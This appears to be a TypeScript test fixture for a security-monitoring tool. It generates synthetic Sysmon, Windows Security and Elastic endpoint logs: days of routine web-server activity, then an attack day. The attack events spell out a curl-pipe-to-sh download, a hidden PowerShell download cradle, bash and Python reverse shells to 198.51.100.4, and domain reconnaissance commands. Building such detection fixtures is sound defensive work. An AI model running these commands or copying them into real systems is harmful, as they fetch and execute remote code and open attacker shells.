/**
 * A deterministic web-shell scenario: `days` days of routine activity on Linux and Windows web
 * servers, then a day of attacks. Events come in the formats real shippers send (Elastic Defend
 * ECS for Linux; Sysmon flat, evtx JSON, winlogbeat and Security 4688 for Windows), so replaying
 * the scenario exercises normalization, every shipped rule and the stateful baselines.
 *
 * Used by the end-to-end scenario tests (issue 5) and by `npm run demo` (lib/demo/replay.ts).
 *
 * The servers: web01 (nginx + php-fpm), web02 (apache2 with mod_php and CGI), api01 (uWSGI),
 * app01 (Tomcat), app02 (gunicorn serving a Django shop), IIS01 and IIS02 (IIS, ASP.NET).
 *
 * The routine is what these servers really do, chosen so that no shipped rule should alert on it
 * once the learning rules have learned (Elastic's new_terms rule has no learning: it alerts once on
 * each routine shell command line the first day, as it would in Elastic on a fresh cluster):
 * image conversion staged in /tmp, mail and piped logs through sh, CGI statistics, health
 * endpoints calling uptime and systemctl, PDF rendering, ASP.NET compiling its pages, database,
 * cache, DNS and FastCGI connections.
 */

export interface ScenarioEvent {
  /** Event time, epoch ms. */
  t: number;
  /** "routine" or the attack step (attack events carry a label). */
  kind: "routine" | "attack";
  label: string;
  host: string;
  /** The document as a shipper posts it. */
  body: Record<string, unknown>;
}

export interface ScenarioOptions {
  /** First day, 00:00 UTC. */
  start: number;
  /** Days of routine before the attack day (the attack day has routine too). */
  days: number;
  /**
   * Epoch ms: the routine goes on after the attack day up to this instant, and nothing later is
   * included. Unset: the scenario ends with the attack day. The events up to a given instant are
   * the same whatever the instant (same ids, same times), so a later `until` only adds events.
   */
  until?: number;
}

const HOUR = 3_600_000;
const DAY = 24 * HOUR;
const MIN = 60_000;

/** The attack day's steps, in order, and the hosts they happen on. */
export const ATTACK_STEPS = [
  "iis webshell: cmd /c whoami",
  "iis webshell: powershell download cradle",
  "iis webshell: net user /domain",
  "php-fpm: sh -c curl | sh",
  "php-fpm: curl child of the shell",
  "php-fpm: outbound connection to 198.51.100.4:4444",
  "apache2: bash from /dev/shm",
  "tomcat: bash reverse shell",
  "uwsgi: python reverse shell",
  "apache2: once-off binary in /tmp",
  "gunicorn: sh -c id through template injection",
] as const;

export type AttackStep = (typeof ATTACK_STEPS)[number];

interface Server {
  exe: string;
  cmd: string;
  pid: number;
}

const LINUX = {
  web01: { nginx: { exe: "/usr/sbin/nginx", cmd: "nginx: worker process", pid: 811 }, phpFpm: { exe: "/usr/sbin/php-fpm8.2", cmd: "php-fpm: pool www", pid: 1822 } },
  web02: { apache: { exe: "/usr/sbin/apache2", cmd: "/usr/sbin/apache2 -k start", pid: 1402 } },
  api01: { uwsgi: { exe: "/usr/bin/uwsgi", cmd: "/usr/bin/uwsgi --ini /etc/uwsgi/apps-enabled/api.ini", pid: 2210 } },
  // gunicorn is a Python script: the executable is the (virtualenv's) interpreter.
  app02: {
    gunicorn: {
      exe: "/usr/bin/python3.11",
      cmd: "/srv/shop/venv/bin/python3.11 /srv/shop/venv/bin/gunicorn --workers 4 --bind 127.0.0.1:8000 shop.wsgi:application",
      pid: 1290,
    },
  },
  app01: {
    tomcat: {
      exe: "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
      cmd: "/usr/lib/jvm/java-17-openjdk-amd64/bin/java -Dcatalina.base=/opt/tomcat -Dcatalina.home=/opt/tomcat org.apache.catalina.startup.Bootstrap start",
      pid: 930,
    },
  },
} satisfies Record<string, Record<string, Server>>;

const HOST_IDS: Record<string, string> = {
  web01: "4c5a1f4e8d2b4f1c9a7e3b6d2f8a0c11",
  web02: "9e0d7c6b5a4f3e2d1c0b9a8f7e6d5c4b",
  api01: "1f2e3d4c5b6a79881726354453627180",
  app01: "a0b1c2d3e4f5061728394a5b6c7d8e9f",
  app02: "5d6e7f8091a2b3c4d5e6f708192a3b4c",
};
const HOST_IPS: Record<string, string> = {
  web01: "10.20.0.11",
  web02: "10.20.0.12",
  api01: "10.20.0.21",
  app01: "10.20.0.31",
  app02: "10.20.0.32",
  IIS01: "10.20.0.61",
  IIS02: "10.20.0.62",
};
/** The service accounts the Linux servers run as (name, uid). */
const USERS = { "www-data": ["www-data", "33"], tomcat: ["tomcat", "998"], shop: ["shop", "1001"] } satisfies Record<string, [string, string]>;
/** The back ends the servers talk to: DNS, MySQL, PostgreSQL, Redis, SQL Server. */
const DNS = "10.20.0.2";
const MYSQL = "10.20.0.40";
const POSTGRES = "10.20.0.41";
const REDIS = "10.20.0.42";
const MSSQL = "10.20.0.50";

/** A small deterministic PRNG (mulberry32), so the scenario is the same on every run. */
function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

interface LinuxSpawn {
  t: number;
  host: keyof typeof LINUX;
  parent: Server;
  exe: string;
  args: string[];
  cwd: string;
  user?: keyof typeof USERS;
  leader?: Server;
}

interface LinuxConnection {
  t: number;
  host: keyof typeof LINUX;
  server: Server;
  dest: string;
  port: number;
  transport?: "tcp" | "udp";
  user?: keyof typeof USERS;
}

export function webShellScenario(options: ScenarioOptions): ScenarioEvent[] {
  const random = rng(0x5eed);
  const out: ScenarioEvent[] = [];
  let seq = 0;
  // Stable per scenario (its first day) and position: re-sending a scenario is idempotent, and the
  // same scenario started another day is other events.
  const day = new Date(options.start).toISOString().slice(0, 10).replaceAll("-", "");
  const id = () => `vigil-demo-${day}-${(++seq).toString(36).padStart(6, "0")}`;
  const jitter = (maxMin: number) => Math.floor(random() * maxMin * MIN);

  const linuxProcess = (s: LinuxSpawn, kind: ScenarioEvent["kind"], label: string) => {
    const name = s.exe.slice(s.exe.lastIndexOf("/") + 1);
    const pid = 10_000 + Math.floor(random() * 50_000);
    out.push({
      t: s.t,
      kind,
      label,
      host: s.host,
      body: {
        "@timestamp": new Date(s.t).toISOString(),
        agent: { type: "endpoint" },
        event: { id: id(), kind: "event", category: ["process"], type: ["start"], action: "exec", dataset: "endpoint.events.process" },
        host: { name: s.host, id: HOST_IDS[s.host], os: { type: "linux", family: "debian", name: "Debian GNU/Linux" }, ip: [HOST_IPS[s.host]] },
        user: { name: USERS[s.user ?? "www-data"][0], id: USERS[s.user ?? "www-data"][1] },
        process: {
          pid,
          name,
          executable: s.exe,
          args: s.args,
          command_line: s.args.join(" "),
          working_directory: s.cwd,
          parent: { pid: s.leader ? pid - 1 : s.parent.pid, name: basename(s.parent.exe), executable: s.parent.exe, command_line: s.parent.cmd, args: s.parent.cmd.split(" ") },
          ...(s.leader && { group_leader: { pid: s.leader.pid, name: basename(s.leader.exe), executable: s.leader.exe } }),
        },
      },
    });
  };

  const linuxConnection = (c: LinuxConnection, kind: ScenarioEvent["kind"], label: string) => {
    const [user, uid] = USERS[c.user ?? "www-data"];
    out.push({
      t: c.t,
      kind,
      label,
      host: c.host,
      body: {
        "@timestamp": new Date(c.t).toISOString(),
        agent: { type: "endpoint" },
        event: { id: id(), kind: "event", category: ["network"], type: ["start"], action: "connection_attempted", dataset: "endpoint.events.network" },
        host: { name: c.host, id: HOST_IDS[c.host], os: { type: "linux", family: "debian", name: "Debian GNU/Linux" } },
        user: { name: user, id: uid },
        process: { pid: c.server.pid, name: basename(c.server.exe), executable: c.server.exe },
        source: { ip: HOST_IPS[c.host], port: 32_768 + Math.floor(random() * 28_000) },
        destination: { ip: c.dest, port: c.port },
        network: { direction: "egress", transport: c.transport ?? "tcp", type: "ipv4" },
      },
    });
  };

  const routineDay = (day: number) => {
    const d0 = options.start + day * DAY;
    const { phpFpm, nginx } = LINUX.web01;
    const { apache } = LINUX.web02;
    const { uwsgi } = LINUX.api01;
    const { tomcat } = LINUX.app01;
    const { gunicorn } = LINUX.app02;
    for (let h = 0; h < 24; h++) {
      const t = d0 + h * HOUR;
      // web01: thumbnails through ImageMagick, staged in /tmp (hourly).
      linuxProcess({ t: t + 7 * MIN + jitter(5), host: "web01", parent: phpFpm, exe: "/usr/bin/convert", args: ["/usr/bin/convert", "/tmp/php-img/upload.png", "-resize", "800x600", "/var/www/app/storage/thumb.png"], cwd: "/tmp/php-img" }, "routine", "php-fpm converts an upload");
      // web01: the application's database (pooled: a few new connections an hour), nginx's
      // FastCGI upstream, and name lookups of the payment API's host.
      for (let q = 0; q < 4; q++) linuxConnection({ t: t + q * 15 * MIN + 9 * MIN + jitter(5), host: "web01", server: phpFpm, dest: MYSQL, port: 3306 }, "routine", "php-fpm to MySQL");
      if (h % 3 === 1) linuxConnection({ t: t + 15 * MIN + jitter(5), host: "web01", server: nginx, dest: "10.20.0.11", port: 9000 }, "routine", "nginx to php-fpm");
      if (h % 2 === 0) linuxConnection({ t: t + 33 * MIN + jitter(5), host: "web01", server: phpFpm, dest: DNS, port: 53, transport: "udp" }, "routine", "php-fpm resolves a host name");
      // web01: PHP's mail() through sh (every three hours).
      if (h % 3 === 0) linuxProcess({ t: t + 21 * MIN + jitter(5), host: "web01", parent: phpFpm, exe: "/bin/sh", args: ["sh", "-c", "/usr/sbin/sendmail -t -i"], cwd: "/var/www/app/public" }, "routine", "php-fpm sends mail");
      // web02: AWStats through CGI (every six hours); mod_php's WordPress talks to MySQL.
      if (h % 6 === 2) linuxProcess({ t: t + 30 * MIN + jitter(5), host: "web02", parent: apache, exe: "/usr/bin/perl", args: ["/usr/bin/perl", "/usr/lib/cgi-bin/awstats.pl", "-config=www", "-update"], cwd: "/usr/lib/cgi-bin" }, "routine", "apache2 runs AWStats");
      for (let q = 0; q < 2; q++) linuxConnection({ t: t + q * 30 * MIN + 4 * MIN + jitter(20), host: "web02", server: apache, dest: MYSQL, port: 3306 }, "routine", "apache2 to MySQL");
      // api01: the health endpoint calls uptime (every two hours); PostgreSQL and Redis.
      if (h % 2 === 0) linuxProcess({ t: t + 40 * MIN + jitter(5), host: "api01", parent: uwsgi, exe: "/usr/bin/uptime", args: ["uptime"], cwd: "/srv/api" }, "routine", "uwsgi health check");
      for (let q = 0; q < 2; q++) linuxConnection({ t: t + q * 30 * MIN + 11 * MIN + jitter(15), host: "api01", server: uwsgi, dest: POSTGRES, port: 5432 }, "routine", "uwsgi to PostgreSQL");
      linuxConnection({ t: t + 48 * MIN + jitter(10), host: "api01", server: uwsgi, dest: REDIS, port: 6379 }, "routine", "uwsgi to Redis");
      // app01: Tomcat renders invoices with wkhtmltopdf (every three hours); JDBC to PostgreSQL.
      if (h % 3 === 2) linuxProcess({ t: t + 17 * MIN + jitter(10), host: "app01", parent: tomcat, exe: "/usr/bin/wkhtmltopdf", args: ["/usr/bin/wkhtmltopdf", "--quiet", "/opt/tomcat/temp/invoice.html", "/opt/tomcat/temp/invoice.pdf"], cwd: "/opt/tomcat", user: "tomcat" }, "routine", "tomcat renders an invoice");
      linuxConnection({ t: t + 26 * MIN + jitter(20), host: "app01", server: tomcat, dest: POSTGRES, port: 5432, user: "tomcat" }, "routine", "tomcat to PostgreSQL");
      // app02: the shop's status page asks systemd about its Celery worker (every two hours);
      // Django's PostgreSQL and Redis connections.
      if (h % 2 === 1) linuxProcess({ t: t + 44 * MIN + jitter(5), host: "app02", parent: gunicorn, exe: "/usr/bin/systemctl", args: ["systemctl", "is-active", "shop-celery.service"], cwd: "/srv/shop", user: "shop" }, "routine", "gunicorn status page");
      for (let q = 0; q < 2; q++) linuxConnection({ t: t + q * 30 * MIN + 2 * MIN + jitter(20), host: "app02", server: gunicorn, dest: POSTGRES, port: 5432, user: "shop" }, "routine", "gunicorn to PostgreSQL");
      linuxConnection({ t: t + 52 * MIN + jitter(5), host: "app02", server: gunicorn, dest: REDIS, port: 6379, user: "shop" }, "routine", "gunicorn to Redis");
      // Windows: service host churn on the IIS servers (Security 4688), and each site's
      // connections to SQL Server (Sysmon 3 through winlogbeat).
      windows4688(t + 12 * MIN + jitter(10), h % 2 ? "IIS01" : "IIS02", "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s BITS", "routine", "services starts svchost");
      for (const host of ["IIS01", "IIS02"]) sysmonConnection(t + 5 * MIN + jitter(50), host, MSSQL, 1433, "routine", "w3wp to SQL Server");
    }
    // web02: piped logging restarted by the daily log rotation.
    linuxProcess({ t: d0 + 6 * HOUR + 25 * MIN, host: "web02", parent: apache, exe: "/bin/sh", args: ["sh", "-c", "/usr/bin/rotatelogs -l /var/log/apache2/access.%Y%m%d 86400"], cwd: "/" }, "routine", "apache2 piped logs");
    // IIS01: ASP.NET compiles changed pages once a day.
    sysmonFlat(d0 + 3 * HOUR + jitter(30), "IIS01", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe", '"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe" /noconfig /fullpaths @"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\root\\5c1a2b3d\\e4f5a6b7\\x2kq.cmdline"', "routine", "w3wp compiles ASP.NET pages");
  };

  function sysmonFlat(t: number, host: string, image: string, commandLine: string, kind: ScenarioEvent["kind"], label: string) {
    out.push({
      t,
      kind,
      label,
      host,
      body: {
        EventID: 1,
        Channel: "Microsoft-Windows-Sysmon/Operational",
        Computer: host,
        EventRecordID: 100_000 + seq++,
        UtcTime: new Date(t).toISOString().replace("T", " ").replace("Z", ""),
        ProcessGuid: guid(random),
        ProcessId: 4000 + Math.floor(random() * 4000),
        Image: image,
        CommandLine: commandLine,
        CurrentDirectory: "c:\\windows\\system32\\inetsrv\\",
        User: "IIS APPPOOL\\DefaultAppPool",
        IntegrityLevel: "High",
        ParentProcessGuid: guid(random),
        ParentProcessId: 3984,
        ParentImage: "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
        ParentCommandLine: 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v4.0" -l "webengine4.dll"',
      },
    });
  }

  /**
   * Security 4688. The subject is the account that created the process: the machine account for
   * services.exe, the application pool's virtual account for w3wp.exe (with w3wp's pid).
   */
  function windows4688(t: number, host: string, image: string, parent: string, commandLine: string, kind: ScenarioEvent["kind"], label: string) {
    const iis = parent.toLowerCase().endsWith("\\w3wp.exe");
    out.push({
      t,
      kind,
      label,
      host,
      body: {
        EventID: 4688,
        TimeCreated: new Date(t).toISOString(),
        Computer: host,
        Channel: "Security",
        ProviderName: "Microsoft-Windows-Security-Auditing",
        EventRecordID: 500_000 + seq++,
        SubjectUserSid: iis ? "S-1-5-82-3006700770-424185619-1745488364-794895919-4004696415" : "S-1-5-18",
        SubjectUserName: iis ? "DefaultAppPool" : `${host}$`,
        SubjectDomainName: iis ? "IIS APPPOOL" : "CORP",
        NewProcessId: `0x${(0x1000 + Math.floor(random() * 0xf000)).toString(16)}`,
        NewProcessName: image,
        ProcessId: iis ? "0xf90" : "0x2c8",
        CommandLine: commandLine,
        ParentProcessName: parent,
        TargetUserName: "-",
        TargetDomainName: "-",
      },
    });
  }

  /** A Sysmon network connection (event 3) of the IIS worker, as winlogbeat ships it without an ingest pipeline. */
  function sysmonConnection(t: number, host: string, dest: string, port: number, kind: ScenarioEvent["kind"], label: string) {
    const time = new Date(t).toISOString();
    out.push({
      t,
      kind,
      label,
      host,
      body: {
        "@timestamp": time,
        agent: { type: "winlogbeat", version: "8.15.3" },
        host: { name: host },
        event: { code: "3", kind: "event", provider: "Microsoft-Windows-Sysmon", action: "Network connection detected (rule: NetworkConnect)", created: time },
        log: { level: "information" },
        winlog: {
          api: "wineventlog",
          channel: "Microsoft-Windows-Sysmon/Operational",
          provider_name: "Microsoft-Windows-Sysmon",
          provider_guid: "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}",
          event_id: "3",
          computer_name: host,
          record_id: 700_000 + seq++,
          process: { pid: 3120, thread: { id: 4400 + Math.floor(random() * 200) } },
          user: { identifier: "S-1-5-18", name: "SYSTEM", domain: "NT AUTHORITY", type: "User" },
          task: "Network connection detected (rule: NetworkConnect)",
          opcode: "Info",
          version: 5,
          event_data: {
            RuleName: "-",
            UtcTime: time.replace("T", " ").replace("Z", ""),
            ProcessGuid: host === "IIS01" ? "{5AA13A44-0F11-673D-1F01-000000000A00}" : "{7C2E9B10-0E42-673D-2A01-000000000B00}",
            ProcessId: "3984",
            Image: "c:\\windows\\system32\\inetsrv\\w3wp.exe",
            User: "IIS APPPOOL\\DefaultAppPool",
            Protocol: "tcp",
            Initiated: "true",
            SourceIsIpv6: "false",
            SourceIp: HOST_IPS[host],
            SourceHostname: `${host}.corp.example.com`,
            SourcePort: String(49_152 + Math.floor(random() * 16_000)),
            SourcePortName: "-",
            DestinationIsIpv6: "false",
            DestinationIp: dest,
            DestinationHostname: "sql01.corp.example.com",
            DestinationPort: String(port),
            DestinationPortName: port === 1433 ? "ms-sql-s" : "-",
          },
        },
      },
    });
  }

  // Routine every day up to the attack day, and after it up to `until`.
  const routineEnd = options.until ?? options.start + (options.days + 1) * DAY;
  for (let day = 0; options.start + day * DAY < routineEnd || day <= options.days; day++) routineDay(day);

  // The attack day: the last day of the scenario (or the day before `until`'s routine).
  const a = options.start + options.days * DAY;
  const { phpFpm } = LINUX.web01;
  const { apache } = LINUX.web02;
  const { uwsgi } = LINUX.api01;
  const { tomcat } = LINUX.app01;
  const { gunicorn } = LINUX.app02;
  const curl = "curl -fsSL http://198.51.100.4/x.sh | sh";
  const shell: Server = { exe: "/bin/sh", cmd: `sh -c ${curl}`, pid: 40_001 };
  sysmonFlat(a + 10 * HOUR, "IIS01", "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami", "attack", "iis webshell: cmd /c whoami");
  out.push({
    t: a + 10 * HOUR + 2 * MIN,
    kind: "attack",
    label: "iis webshell: powershell download cradle",
    host: "IIS01",
    body: {
      Event: {
        System: {
          Provider: { "#attributes": { Name: "Microsoft-Windows-Sysmon", Guid: "5770385F-C22A-43E0-BF4C-06F5698FFBD9" } },
          EventID: 1,
          TimeCreated: { "#attributes": { SystemTime: new Date(a + 10 * HOUR + 2 * MIN).toISOString() } },
          EventRecordID: 900_001,
          Channel: "Microsoft-Windows-Sysmon/Operational",
          Computer: "IIS01",
          Security: { "#attributes": { UserID: "S-1-5-18" } },
        },
        EventData: {
          UtcTime: new Date(a + 10 * HOUR + 2 * MIN).toISOString().replace("T", " ").replace("Z", ""),
          ProcessGuid: "{5AA13A44-7C31-673D-AA02-000000000A00}",
          ProcessId: 6120,
          Image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
          OriginalFileName: "PowerShell.EXE",
          CommandLine: "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.4/a.ps1')\"",
          CurrentDirectory: "C:\\inetpub\\wwwroot\\uploads\\",
          User: "IIS APPPOOL\\DefaultAppPool",
          IntegrityLevel: "High",
          ParentProcessGuid: "{5AA13A44-0F11-673D-1F01-000000000A00}",
          ParentProcessId: 3984,
          ParentImage: "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
          ParentCommandLine: 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool"',
        },
      },
    },
  });
  windows4688(a + 10 * HOUR + 4 * MIN, "IIS01", "C:\\Windows\\System32\\net.exe", "C:\\Windows\\System32\\inetsrv\\w3wp.exe", "net user /domain", "attack", "iis webshell: net user /domain");
  linuxProcess({ t: a + 13 * HOUR, host: "web01", parent: phpFpm, exe: "/bin/sh", args: ["sh", "-c", curl], cwd: "/var/www/app/public" }, "attack", "php-fpm: sh -c curl | sh");
  linuxProcess({ t: a + 13 * HOUR + 1000, host: "web01", parent: shell, leader: phpFpm, exe: "/usr/bin/curl", args: ["curl", "-fsSL", "http://198.51.100.4/x.sh"], cwd: "/var/www/app/public" }, "attack", "php-fpm: curl child of the shell");
  linuxConnection({ t: a + 13 * HOUR + 5 * MIN, host: "web01", server: phpFpm, dest: "198.51.100.4", port: 4444 }, "attack", "php-fpm: outbound connection to 198.51.100.4:4444");
  linuxProcess({ t: a + 14 * HOUR, host: "web02", parent: apache, exe: "/bin/bash", args: ["bash", "-c", "./.k"], cwd: "/dev/shm" }, "attack", "apache2: bash from /dev/shm");
  linuxProcess({ t: a + 15 * HOUR, host: "app01", parent: tomcat, exe: "/bin/bash", args: ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.4/4444 0>&1"], cwd: "/opt/tomcat", user: "tomcat" }, "attack", "tomcat: bash reverse shell");
  linuxProcess(
    { t: a + 16 * HOUR, host: "api01", parent: uwsgi, exe: "/usr/bin/python3.11", args: ["/usr/bin/python3.11", "-c", "import socket,subprocess,os;s=socket.socket();s.connect(('198.51.100.4',443));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(['/bin/sh','-i'])"], cwd: "/srv/api" },
    "attack",
    "uwsgi: python reverse shell",
  );
  linuxProcess({ t: a + 17 * HOUR, host: "web02", parent: apache, exe: "/tmp/.ICE-unix/kdevtmpfsi", args: ["/tmp/.ICE-unix/kdevtmpfsi"], cwd: "/var/www/html" }, "attack", "apache2: once-off binary in /tmp");
  // A server-side template injection in the shop's search page runs os.popen().
  linuxProcess({ t: a + 11 * HOUR + 30 * MIN, host: "app02", parent: gunicorn, exe: "/bin/sh", args: ["/bin/sh", "-c", "id;uname -a"], cwd: "/srv/shop", user: "shop" }, "attack", "gunicorn: sh -c id through template injection");

  const end = options.until ?? Infinity;
  return out.filter((e) => e.t <= end).sort((x, y) => x.t - y.t);
}

function basename(path: string): string {
  return path.slice(Math.max(path.lastIndexOf("/"), path.lastIndexOf("\\")) + 1);
}

function guid(random: () => number): string {
  const hex = (n: number) => Array.from({ length: n }, () => Math.floor(random() * 16).toString(16)).join("").toUpperCase();
  return `{${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}}`;
}

/** Splits a scenario into hourly NDJSON batches, as a shipper sends them. */
export function hourlyBatches(events: readonly ScenarioEvent[]): ScenarioEvent[][] {
  const batches: ScenarioEvent[][] = [];
  let current: ScenarioEvent[] = [];
  let hour = -1;
  for (const e of events) {
    const h = Math.floor(e.t / HOUR);
    if (h !== hour && current.length > 0) {
      batches.push(current);
      current = [];
    }
    hour = h;
    current.push(e);
  }
  if (current.length > 0) batches.push(current);
  return batches;
}
